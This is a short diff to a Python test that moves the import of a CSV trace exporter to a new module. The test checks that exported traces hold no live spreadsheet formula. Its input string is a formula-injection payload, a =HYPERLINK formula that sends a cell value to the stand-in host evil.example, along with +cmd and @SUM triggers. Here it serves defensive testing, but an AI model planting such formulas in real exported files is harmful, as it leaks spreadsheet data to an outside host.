@@ -402,7 +402,7 @@ def test_trace_csv_holds_no_live_spreadsheet_formula(make_run, tracer_of):
     import csv
     import io
 
-    from rnnlab_app.ui import trace_csv
+    from rnnlab_app.results import trace_csv
     text = '=HYPERLINK("http://evil.example/?"&A1,"Click") +cmd -2 @SUM(A1) rally'
     trace = tracer_of(make_run()).trace(text, integrated_gradients=False)
     assert any(t.word.startswith("=HYPERLINK") for t in trace.tokens)
